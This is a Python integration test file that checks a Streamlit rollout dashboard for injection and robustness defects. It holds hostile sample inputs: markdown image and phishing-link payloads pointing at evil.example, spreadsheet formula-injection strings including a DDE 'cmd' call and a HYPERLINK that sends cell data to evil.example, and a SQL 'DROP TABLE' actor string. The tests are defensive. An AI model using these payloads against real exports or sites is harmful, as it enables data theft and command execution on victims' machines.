"""A hostile SRE's, careless admin's and hostile task author's review of the Overview, Task
(with the routing what-if) and Audit pages: untrusted text rendered as markup, actions
without the API's limits or with misleading messages, odd query parameters, CSV formula
injection, extreme what-if settings and the database down. Each test is a defect found
(or an attack that held), and kept fixed."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from markdown_it import MarkdownIt
from sqlalchemy import select, update
from streamlit.testing.v1 import AppTest

from controlplane.alerts.service import list_alerts
from controlplane.db import session_scope
from controlplane.keys.actions import create_key
from controlplane.models import Alert, BlockedModel, Decision, Task
from controlplane.models.base import utcnow
from controlplane.rollout import actions
from controlplane.rollout.service import list_decisions
from controlplane.rollout.timeline import csv_text, timeline
from tests.dashboard.conftest import Seeded, open_page, page_text, shown

pytestmark = pytest.mark.integration

OVERVIEW = "app_pages/overview.py"
TASK = "app_pages/task.py"
AUDIT = "app_pages/audit.py"
ROLLED_BACK = "ticket_classify"
IN_SHADOW = "invoice_extract"
IMAGE = "![img](http://evil.example/x.png)"
LINK = "[re-authenticate here](http://evil.example/login)"


def rendered(markdown: str) -> str:
    """CommonMark's HTML of a markdown body (Streamlit renders with a CommonMark parser)."""
    return MarkdownIt("commonmark").render(markdown)


def markup_bodies(at: AppTest) -> list[str]:
    """Every body the page hands to Streamlit's markdown renderer (markdown, captions,
    alerts, button labels)."""
    bodies = [str(e.value) for kind in ("markdown", "caption") for e in getattr(at, kind)]
    bodies += [
        str(e.value) for kind in ("error", "warning", "info", "success") for e in getattr(at, kind)
    ]
    bodies += [str(b.label) for b in at.button]
    # A table's cells are markdown too (st.table renders each cell's text as markdown).
    bodies += [str(cell) for t in at.table for cell in t.value.to_numpy().ravel()]
    return bodies


def injected(at: AppTest, marker: str = "evil.example") -> list[str]:
    """The bodies holding `marker` that render an image or a link."""
    return [
        body
        for body in markup_bodies(at)
        if marker in body and ("<img" in rendered(body) or "<a " in rendered(body))
    ]


def newest(seeded: Seeded, task: str) -> dict[str, Any]:
    """The task's newest decision ({"id": None} without one)."""
    with session_scope(seeded.engine) as session:
        found = list_decisions(session, task)
    return found[0] if found else {"id": None, "action": None, "actor": None}


def on_task(seeded: Seeded, key: str, task: str) -> AppTest:
    at = open_page(seeded, key, TASK, task=task)
    assert not at.exception, at.exception
    return at


def add_alert(seeded: Seeded, task: str, message: str) -> int:
    with session_scope(seeded.engine) as session:
        task_id = session.scalar(select(Task.id).where(Task.name == task))
        now = utcnow()
        alert = Alert(
            task_id=task_id,
            kind="conflict_jump",
            state="open",
            window_start=now - timedelta(minutes=5),
            value=0.3,
            baseline=0.05,
            message=message,
            opened_at=now,
            updated_at=now,
        )
        session.add(alert)
        session.flush()
        return alert.id


# ---- Untrusted text as markup ----------------------------------------------------------


def test_a_decision_reason_is_not_rendered_as_markdown_on_the_task_page(seeded: Seeded) -> None:
    actions.rollback(seeded.engine, IN_SHADOW, actor="admin", reason=f"{IMAGE} {LINK}")
    at = on_task(seeded, "read", IN_SHADOW)
    assert not injected(at), injected(at)


def test_a_decision_reason_is_not_rendered_as_markdown_on_the_overview(seeded: Seeded) -> None:
    actions.rollback(seeded.engine, IN_SHADOW, actor="admin", reason=f"{IMAGE} {LINK}")
    at = open_page(seeded, "read", OVERVIEW)
    assert not at.exception
    assert not injected(at), injected(at)


def test_a_kill_reason_is_not_rendered_as_markdown(seeded: Seeded) -> None:
    actions.kill(seeded.engine, actor="admin", reason=f"{IMAGE} {LINK}")
    at = open_page(seeded, "read", OVERVIEW)
    assert not at.exception
    assert not injected(at), injected(at)


def test_an_alert_message_is_not_rendered_as_markdown(seeded: Seeded) -> None:
    add_alert(seeded, IN_SHADOW, f"{IN_SHADOW}: {IMAGE}")
    at = open_page(seeded, "read", OVERVIEW)
    assert not at.exception
    task_page = on_task(seeded, "read", IN_SHADOW)
    assert not injected(at) and not injected(task_page), (injected(at), injected(task_page))


def test_an_audit_event_is_not_rendered_as_markdown(seeded: Seeded) -> None:
    actions.rollback(seeded.engine, IN_SHADOW, actor="admin", reason=f"{IMAGE} {LINK}")
    at = open_page(seeded, "read", AUDIT)
    assert not at.exception
    # The reason is on the page (in the events table), as text.
    assert any("evil.example" in shown(body) for body in markup_bodies(at))
    assert not injected(at), injected(at)


def test_a_key_name_is_not_rendered_as_markdown(seeded: Seeded) -> None:
    name = f"ops {IMAGE}"
    _, plaintext = create_key(seeded.engine, name=name, scopes=["admin"], actor="test")
    seeded.keys["hostile"] = plaintext
    actions.rollback(seeded.engine, IN_SHADOW, actor=name, reason="checking")
    found = []
    for page in (OVERVIEW, TASK, AUDIT):
        at = open_page(seeded, "hostile", page, task=IN_SHADOW if page == TASK else None)
        assert not at.exception
        found += injected(at)
        found += [m.value for m in at.sidebar.markdown if "<img" in rendered(str(m.value))]
    assert not found, found


def test_a_blocked_model_name_cannot_break_out_of_its_code_span(seeded: Seeded) -> None:
    hostile = f"edge-x` {IMAGE} `"
    with session_scope(seeded.engine) as session:
        session.execute(update(BlockedModel).values(model=hostile))
        for decision in session.scalars(select(Decision).where(Decision.action == "rollback")):
            evidence = dict(decision.evidence or {})
            if evidence.get("models"):
                evidence["models"] = [hostile]
                decision.evidence = evidence
    at = on_task(seeded, "admin", ROLLED_BACK)
    assert not injected(at), injected(at)


def test_unblocking_a_model_with_odd_characters_is_done_once_and_audited(seeded: Seeded) -> None:
    hostile = "edge:v2/β `x` [y](z) \u202e"
    with session_scope(seeded.engine) as session:
        session.execute(update(BlockedModel).values(model=hostile))
    at = on_task(seeded, "admin", ROLLED_BACK)
    at.text_input(key="action_reason").set_value("fixed upstream")
    at.checkbox(key=f"unblock_force_{hostile}").check()
    at.button(key=f"unblock_{hostile}").click().run()
    assert not at.exception, at.exception
    assert f"Unblocked {hostile}" in page_text(at), page_text(at)
    with session_scope(seeded.engine) as session:
        row = session.scalar(select(BlockedModel).where(BlockedModel.model == hostile))
        assert row is not None and row.lifted_by == "admin"


def test_a_task_query_parameter_is_not_rendered_as_markdown(seeded: Seeded) -> None:
    at = open_page(seeded, "read", TASK, task=f"{IMAGE} {LINK}")
    assert not at.exception
    assert any("There is no task named" in w.value for w in at.warning), page_text(at)
    assert not injected(at), injected(at)


def test_odd_task_query_parameters_are_a_sentence(seeded: Seeded) -> None:
    for asked in ("", " ", "x" * 10_000, "\x00\x07", "ticket_classify\n", "../overview"):
        at = open_page(seeded, "read", TASK, task=asked)
        assert not at.exception, (asked[:20], at.exception)
        assert at.selectbox(key="task_pick").value in (ROLLED_BACK, IN_SHADOW)


# ---- Admin actions ---------------------------------------------------------------------


def test_a_megabyte_reason_is_refused_on_the_task_page(seeded: Seeded) -> None:
    before = newest(seeded, IN_SHADOW)
    at = on_task(seeded, "admin", IN_SHADOW)
    at.text_input(key="action_reason").set_value("x" * 1_000_000)
    at.button(key="rollback").click().run()
    assert not at.exception
    assert newest(seeded, IN_SHADOW)["id"] == before["id"], "the 1 MB reason was stored"


def test_a_megabyte_kill_reason_is_refused(seeded: Seeded) -> None:
    at = open_page(seeded, "admin", OVERVIEW)
    at.text_input(key="kill_reason").set_value("x" * 1_000_000)
    at.checkbox(key="kill_confirm").check()
    at.button(key="kill_submit").click().run()
    assert not at.exception
    with session_scope(seeded.engine) as session:
        kills = session.scalars(select(Decision).where(Decision.action == "kill")).all()
    assert not kills, "the 1 MB kill reason was stored"


def test_a_whitespace_reason_does_nothing(seeded: Seeded) -> None:
    before = newest(seeded, IN_SHADOW)
    at = on_task(seeded, "admin", IN_SHADOW)
    at.text_input(key="action_reason").set_value(" \t\n ")
    at.button(key="rollback").click().run()
    assert not at.exception
    assert newest(seeded, IN_SHADOW)["id"] == before["id"]
    assert any("Give a reason first" in e.value for e in at.error)
    at = open_page(seeded, "admin", OVERVIEW)
    at.text_input(key="kill_reason").set_value("   ")
    at.checkbox(key="kill_confirm").check()
    at.button(key="kill_submit").click().run()
    assert not at.exception
    assert any("say why in Reason" in w.value for w in at.warning)


def test_rollback_twice_is_done_once_and_the_second_is_a_sentence(seeded: Seeded) -> None:
    at = on_task(seeded, "admin", IN_SHADOW)
    stale = on_task(seeded, "admin", IN_SHADOW)
    at.text_input(key="action_reason").set_value("first")
    at.button(key="rollback").click().run()
    assert not at.exception
    stale.text_input(key="action_reason").set_value("second")
    stale.button(key="rollback").click().run()
    assert not stale.exception
    assert any("nothing to roll back" in e.value for e in stale.error), page_text(stale)
    with session_scope(seeded.engine) as session:
        rollbacks = [d for d in list_decisions(session, IN_SHADOW) if d["action"] == "rollback"]
    assert [d["actor"] for d in rollbacks] == ["admin"]


def test_rearm_twice_is_done_once(seeded: Seeded) -> None:
    at = on_task(seeded, "admin", ROLLED_BACK)
    stale = on_task(seeded, "admin", ROLLED_BACK)
    at.text_input(key="action_reason").set_value("fixed")
    at.button(key="rearm").click().run()
    stale.text_input(key="action_reason").set_value("fixed too")
    stale.button(key="rearm").click().run()
    assert not at.exception and not stale.exception
    # The second click is refused (409) or dropped (the re-drawn button is disabled):
    # either way nothing is done twice. (A dropped click says nothing: see the report.)
    assert not any("Done:" in x.value for x in stale.success), page_text(stale)[:1500]
    with session_scope(seeded.engine) as session:
        rearms = [d for d in list_decisions(session, ROLLED_BACK) if d["action"] == "rearm"]
    assert len(rearms) == 1


def test_a_promote_from_a_page_gone_stale_is_a_conflict_message(seeded: Seeded) -> None:
    at = on_task(seeded, "admin", IN_SHADOW)
    actions.rollback(seeded.engine, IN_SHADOW, actor="someone", reason="meanwhile")
    actions.rearm(seeded.engine, IN_SHADOW, actor="someone", reason="meanwhile")
    actions.promote(
        seeded.engine, IN_SHADOW, actor="someone", reason="meanwhile", veto=1e9, force=True
    )
    at.text_input(key="action_reason").set_value("go")
    at.checkbox(key="promote_force").check()
    at.button(key="promote").click().run()
    assert not at.exception
    assert any("it has moved since you looked" in e.value for e in at.error), page_text(at)
    assert newest(seeded, IN_SHADOW)["actor"] == "someone"


def test_force_past_the_gate_does_not_stay_ticked_after_a_promotion(seeded: Seeded) -> None:
    at = on_task(seeded, "admin", IN_SHADOW)
    at.text_input(key="action_reason").set_value("go")
    at.checkbox(key="promote_force").check()
    at.button(key="promote").click().run()
    assert not at.exception
    assert newest(seeded, IN_SHADOW)["action"] == "promote", page_text(at)
    assert at.checkbox(key="promote_force").value is False


def test_acknowledging_an_alert_that_resolved_meanwhile_says_so(seeded: Seeded) -> None:
    alert_id = add_alert(seeded, IN_SHADOW, f"{IN_SHADOW}: conflict rate jumped")
    at = open_page(seeded, "admin", OVERVIEW)
    with session_scope(seeded.engine) as session:
        session.execute(
            update(Alert).where(Alert.id == alert_id).values(state="resolved", resolved_at=utcnow())
        )
    at.button(key=f"ack_{alert_id}").click().run()
    assert not at.exception
    [alert] = [a for a in list_alerts_of(seeded, IN_SHADOW) if a["id"] == alert_id]
    assert alert["state"] == "resolved" and alert["acknowledged_by"] is None
    assert not any("acknowledged" in s.value for s in at.success), [s.value for s in at.success]


def list_alerts_of(seeded: Seeded, task: str) -> list[dict[str, Any]]:
    with session_scope(seeded.engine) as session:
        return list_alerts(session, task=task)


# ---- Read key ----------------------------------------------------------------------------


def test_a_read_key_cannot_act_through_session_state(seeded: Seeded) -> None:
    before = newest(seeded, IN_SHADOW)
    at = on_task(seeded, "read", IN_SHADOW)
    at.session_state["task_action"] = {
        "kind": "rollback",
        "task": IN_SHADOW,
        "expected_stage": "shadow",
    }
    at.session_state["action_reason"] = "sneaky"
    at.run()
    assert not at.exception
    assert newest(seeded, IN_SHADOW)["id"] == before["id"]
    over = open_page(seeded, "read", OVERVIEW)
    assert not {"kill_submit", "kill_reason", "lift_submit"} & {
        w.key for w in [*over.button, *over.text_input]
    }


# ---- CSV export ----------------------------------------------------------------------------


def test_the_audit_csv_has_no_cell_a_spreadsheet_runs_as_a_formula(seeded: Seeded) -> None:
    name = "@SUM(1+1)*cmd|' /C calc'!A0"
    _, plaintext = create_key(seeded.engine, name=name, scopes=["admin"], actor="test")
    actions.kill(seeded.engine, actor=name, reason='=HYPERLINK("http://evil.example/?"&A1,"ok")')
    actions.lift(seeded.engine, actor="admin", reason="+1-1")
    with session_scope(seeded.engine) as session:
        text = csv_text(timeline(session))
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not risky, risky


# ---- What-if ----------------------------------------------------------------------------------


def test_whatif_at_the_inputs_extremes_renders(seeded: Seeded) -> None:
    at = on_task(seeded, "read", ROLLED_BACK)
    cap = at.number_input(key="whatif_cap")
    for value in (cap.min, cap.max, None):
        at.number_input(key="whatif_cap").set_value(value).run()
        assert not at.exception, at.exception
    for value in (0.0, 1.0, None):
        at.number_input(key="whatif_confidence").set_value(value).run()
        assert not at.exception, at.exception


def test_whatif_periods_without_results_too_long_or_backwards_are_sentences(seeded: Seeded) -> None:
    at = on_task(seeded, "read", ROLLED_BACK)
    day = at.date_input(key="whatif_from").value
    at.date_input(key="whatif_from").set_value(day - timedelta(days=400))
    at.date_input(key="whatif_to").set_value(day - timedelta(days=399)).run()
    assert not at.exception
    assert any("No results stored" in i.value for i in at.info), page_text(at)
    at.date_input(key="whatif_from").set_value(day - timedelta(days=31))
    at.date_input(key="whatif_to").set_value(day).run()
    assert any("at most 31 days" in w.value for w in at.warning), page_text(at)
    at.date_input(key="whatif_from").set_value(day)
    at.date_input(key="whatif_to").set_value(day - timedelta(days=1)).run()
    assert any("ends before it starts" in w.value for w in at.warning), page_text(at)
    assert not at.exception


# ---- Audit filters ------------------------------------------------------------------------------


def test_audit_filters_with_no_match_and_odd_actors_are_sentences(seeded: Seeded) -> None:
    odd = "o'brien \"; DROP TABLE audit; -- \u202e % _"
    actions.rollback(seeded.engine, IN_SHADOW, actor=odd, reason="x")
    at = open_page(seeded, "read", AUDIT)
    at.selectbox(key="audit_actor").set_value(odd).run()
    assert not at.exception
    assert "1 event" in page_text(at) or "events shown" in page_text(at)
    at.multiselect(key="audit_kinds").set_value([]).run()
    assert not at.exception
    assert any("No event matches" in i.value for i in at.info), page_text(at)


# ---- Database down -------------------------------------------------------------------------------


@pytest.mark.parametrize("page", [OVERVIEW, TASK, AUDIT])
def test_every_page_is_a_sentence_with_the_database_down(
    seeded: Seeded, monkeypatch: pytest.MonkeyPatch, page: str
) -> None:
    at = open_page(seeded, "admin", page)
    monkeypatch.setenv("SHADOWPLANE_DATABASE_URL", "postgresql+psycopg://sp:sp@127.0.0.1:9/sp")
    at.run()
    assert not at.exception, at.exception
    assert at.error and all("database" in e.value for e in at.error), page_text(at)
